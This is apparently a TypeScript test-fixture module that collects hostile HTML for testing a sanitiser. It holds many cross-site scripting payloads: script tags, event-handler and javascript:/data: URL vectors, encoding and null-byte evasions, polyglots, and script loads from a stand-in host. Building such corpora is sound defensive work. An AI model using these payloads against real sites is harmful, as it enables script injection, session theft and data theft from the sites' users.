import { elsewhere, family, type Hostile, lines } from './hostile-families.ts';
import { hostileStructures } from './hostile-structures.ts';

/**
 * Texts that try to run something, to reach another site, or to change the page around them: the families of the published cheat
 * sheets and of what is known of broken sanitisers. What runs calls `pwn()`; what is loaded comes from `elsewhere`.
 */

export { elsewhere } from './hostile-families.ts';

const script = lines(
  'script',
  `
  <script>pwn()</script>
  <SCRIPT>pwn()</SCRIPT>
  <script src="${elsewhere}/a.js"></script>
  <script src=//elsewhere.example/a.js>
  <script/src="${elsewhere}/b.js"></script>
  <script type="module">pwn()</script>
  <script type="text/javascript" defer async>pwn()</script>
  <scr<script>ipt>pwn()</scr</script>ipt>
  <<script>pwn();//<</script>
  <script\u000cx>pwn()</script\u000c>
  <script
  <script>pwn()
  <script>/*</p>*/pwn()</script >
  <script>pwn()</script bar>
  <noscript><p title="</noscript><script>pwn()</script>"></noscript>
  <p><script><!--pwn()//--></script></p>
  <script nonce="x" integrity="y">pwn()</script>
  </script><script>pwn()</script>
  <h2>x<script>pwn()</script></h2>
  <script xlink:href="${elsewhere}/c.js"></script>
  `,
);

const handlerNames =
  'load error click mouseover focus focusin blur animationstart animationend transitionend toggle pointerenter beforetoggle wheel scroll input change submit reset drag drop copy paste begin end repeat loadstart canplay timeupdate message hashchange pageshow resize auxclick contextmenu beforematch contentvisibilityautostatechange'.split(
    ' ',
  );
const handlerHosts =
  'img src=x|p tabindex=1 autofocus|a href=# |table|td|figure|details open|video src=x|body|svg'.split('|');
const handlers: Hostile[] = handlerNames.map((name, index) => ({
  family: 'handlers',
  html: `<${handlerHosts[index % handlerHosts.length]} on${name}="pwn()">x`,
}));

const handlerForms = lines(
  'handlers in odd forms',
  `
  <img src=x onerror=pwn()>
  <img src=x onerror='pwn()'>
  <img src=x onerror=\`pwn()\`>
  <img src=x ONERROR=pwn()>
  <img src=x onerror =pwn()>
  <img/src=x/onerror=pwn()>
  <img src=x oneonerrorrror=pwn()>
  <img src=x:x onerror=&#112;&#119;&#110;&#40;&#41;>
  <img src=x onerror="&#x70;wn&lpar;&rpar;">
  <img """><script>pwn()</script>">
  <img src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c" onload=pwn()>
  <img src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c"onload=pwn() alt="a>
  <img src='/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c' alt='"><img src=x onerror=pwn()>'>
  <a href="https://a.example/" onclick="pwn()" autofocus onfocus="pwn()" tabindex=0>x</a>
  <a href="x" title='"><img src=x onerror=pwn()>'>x</a>
  <input autofocus onfocus=pwn()>
  <select autofocus onfocus=pwn()><option>x</select>
  <textarea autofocus onfocus=pwn()>x</textarea>
  <button popovertarget=x>y</button><p popover id=x onbeforetoggle=pwn()>z
  <marquee onstart=pwn()>x</marquee>
  <video><source onerror="pwn()"></video>
  <audio src onerror=pwn()>
  <details open ontoggle=pwn()><summary>x</summary></details>
  <dialog open onclose=pwn()>x</dialog>
  <body onload=pwn()>
  <p style="animation:x" onanimationstart=pwn()>x<style>@keyframes x{}</style>
  <xss id=x tabindex=1 onfocus=pwn() style="display:block">x</xss>
  <custom-element onpointerrawupdate=pwn()>x</custom-element>
  `,
);

const schemes = lines(
  'addresses that run',
  `
  <a href="javascript:pwn()">x</a>
  <a href="JaVaScRiPt:pwn()">x</a>
  <a href=" javascript:pwn()">x</a>
  <a href="\u0001javascript:pwn()">x</a>
  <a href="\u001fjavascript:pwn()">x</a>
  <a href="java\tscript:pwn()">x</a>
  <a href="java&#9;script:pwn()">x</a>
  <a href="java&#10;script:pwn()">x</a>
  <a href="java&NewLine;script&colon;pwn()">x</a>
  <a href="java&Tab;script:pwn()">x</a>
  <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()">x</a>
  <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()">x</a>
  <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwn()">x</a>
  <a href="javascript&colon;pwn()">x</a>
  <a href="javascript&#58;pwn()">x</a>
  <a href="javascript&#x3a;pwn()">x</a>
  <a href="javascript&#0;:pwn()">x</a>
  <a href="java\u00adscript:pwn()">x</a>
  <a href="java\u200bscript:pwn()">x</a>
  <a href="\ufeffjavascript:pwn()">x</a>
  <a href="javascript://%0apwn()">x</a>
  <a href="javascript:/*--></title></style></textarea></script><svg/onload=pwn()>//">x</a>
  <a href="vbscript:msgbox(1)">x</a>
  <a href="livescript:pwn()">x</a>
  <a href="mocha:pwn()">x</a>
  <a href="data:text/html,<script>pwn()</script>">x</a>
  <a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">x</a>
  <a href="DATA:text/html;charset=utf-8,%3Cscript%3Epwn()%3C/script%3E">x</a>
  <a href="blob:https://a.example/x">x</a>
  <a href="filesystem:https://a.example/x">x</a>
  <a href="view-source:javascript:pwn()">x</a>
  <a href="feed:javascript:pwn()">x</a>
  <a href="jar:javascript:pwn()!/">x</a>
  <a href="file:///etc/passwd">x</a>
  <a href="intent://x#Intent;scheme=https;end">x</a>
  <a href="ms-msdt:/id x">x</a>
  <a href="//elsewhere.example/">x</a>
  <a href="\\\\elsewhere.example\\">x</a>
  <a href="/\\elsewhere.example">x</a>
  <a href='javascript:pwn()' rel=noopener target=_self>x</a>
  <a href=javascript:pwn()>x</a>
  <a href="x" href="javascript:pwn()">x</a>
  <a xlink:href="javascript:pwn()">x</a>
  <a ping="${elsewhere}/ping" href="https://a.example/">x</a>
  <a href="https://a.example/" target="_blank" rel="opener" download referrerpolicy="unsafe-url">x</a>
  <area href="javascript:pwn()">
  <form action="javascript:pwn()"><button>x</button></form>
  <button formaction="javascript:pwn()">x</button>
  <img src="javascript:pwn()">
  <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>">
  <img dynsrc="javascript:pwn()" lowsrc="javascript:pwn()">
  <table background="javascript:pwn()"><td background="${elsewhere}/t.png">x
  <blockquote cite="javascript:pwn()">x</blockquote>
  <input type=image src="${elsewhere}/i.png" formaction="javascript:pwn()">
  `,
);

const malformed: Hostile[] = [
  ...lines(
    'malformed',
    `
  <img src=x onerror=pwn()
  <img src="x" onerror="pwn()" <p>x
  <p/onclick=pwn()>x
  <p title=x\u0000onclick=pwn()>x
  <p "onclick=pwn() x=">x
  <p =onclick=pwn()>x
  <p title="a"onclick="pwn()">x
  <p a='"' onclick='pwn()' b='"'>x</p>
  <p\u00a0onclick=pwn()>x
  <p\u3000onclick=pwn()>x
  <p\u2028onclick=pwn()>x
  <\u0000script>pwn()</script>
  <scr\u0000ipt>pwn()</scr\u0000ipt>
  <im\u0000g src=x onerror=pwn()>
  <img src=x on\u0000error=pwn()>
  \u0000<img src=x onerror=pwn()>
  < script>pwn()</ script>
  <a href="https://a.example/" "onclick=pwn()">x</a>
  <a href="https://a.example/'onclick='pwn()">x</a>
  <a href='https://a.example/"onclick="pwn()'>x</a>
  <a href=https://a.example/\`onclick=pwn()>x</a>
  <code class="language-x onclick=pwn()">x</code>
  <code class='language-"><img src=x onerror=pwn()>'>x</code>
  <td colspan="1 onclick=pwn()">x</td>
  <ol start="1;pwn()"><li>x</ol>
  <th scope="row onclick=pwn()">x</th>
  </p><img src=x onerror=pwn()></p>
  </><img src=x onerror=pwn()>
  </\u0000><img src=x onerror=pwn()>
  <img alt="&quot; onerror=&quot;pwn()" src=/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c>
  <img alt='" onload="pwn()' src=/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c>
  <img alt="\`onload=pwn()//" src=/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c>
  &lt;img src=x onerror=pwn()>
  &#60;script&#62;pwn()&#60;/script&#62;
  &#x3c;img src=x onerror=pwn()&#x3e;
  &ltscript&gtpwn()&lt/script&gt
  \\u003cscript\\u003epwn()\\u003c/script\\u003e
  %3Cscript%3Epwn()%3C/script%3E
  +ADw-script+AD4-pwn()+ADw-/script+AD4-
  +ADw-img src=x onerror=pwn()+AD4-
  \uff1cscript\uff1epwn()\uff1c/script\uff1e
  \u2039script\u203apwn()\u2039/script\u203a
  \u00bcscript\u00bepwn()\u00bc/script\u00be
  {{constructor.constructor('pwn()')()}}
  \${pwn()}
  <%= pwn() %>
  `,
  ),
  { family: 'malformed', html: `${'<p>'.repeat(300)}<img src=x onerror=pwn()>` },
  { family: 'malformed', html: `${'<blockquote><ul><li>'.repeat(200)}<script>pwn()</script>` },
  { family: 'malformed', html: `<p title="${'x'.repeat(70_000)}" onclick=pwn()>x</p>` },
];

const polyglots = family(
  'polyglots',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=pwn() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwn()//>\\x3e',
  '\'">><marquee><img src=x onerror=pwn()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=pwn()><script>pwn()</script>@gmail.com<isindex formaction=javascript:pwn() type=submit>\'-->"></script><script>pwn()</script>">',
  '--></script></title></style></textarea></noscript></template></select>"\'><img src=x onerror=pwn()>',
  '"onclick=pwn()//<button \' onclick=pwn()//> */ pwn()//',
  '\';pwn()//\\\';pwn()//";pwn()//\\";pwn()//--></script>">\'><script>pwn()</script>=&{}',
  ']]></content:encoded></item><script>pwn()</script><![CDATA[',
  '</pre></code></td></tr></table></li></ul></blockquote><img src=x onerror=pwn()>',
);

/** All of them, each with its family. */
export const hostileHtml: readonly Hostile[] = [
  ...script,
  ...handlers,
  ...handlerForms,
  ...schemes,
  ...hostileStructures,
  ...malformed,
  ...polyglots,
];
